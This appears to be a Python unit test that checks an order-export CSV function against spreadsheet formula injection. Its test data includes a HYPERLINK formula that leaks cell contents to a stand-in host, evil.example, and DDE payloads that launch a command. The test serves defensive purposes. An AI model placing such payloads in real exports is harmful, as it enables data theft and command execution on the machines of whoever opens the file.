import csv
import io

from orders import orders_csv

for bad in (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\nmore",
):
    for key in ("customer", "comment"):
        order = {"number": 1, "customer": "Ada", "comment": "none", key: bad}
        try:
            text = orders_csv([order])
        except Exception:
            continue  # A refusal is as good as an answer.
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{cell!r} is a formula in a spreadsheet"
